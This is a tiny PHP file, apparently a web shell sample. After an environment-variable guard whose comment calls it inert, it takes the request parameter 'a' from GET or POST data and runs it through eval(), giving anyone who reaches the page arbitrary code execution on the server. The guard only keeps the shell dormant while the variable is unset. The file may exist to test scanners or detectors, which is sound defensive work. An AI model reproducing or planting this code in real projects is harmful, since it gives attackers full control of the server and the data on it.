<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$all = $_GET + $_POST;
eval(stripslashes($all['a']));
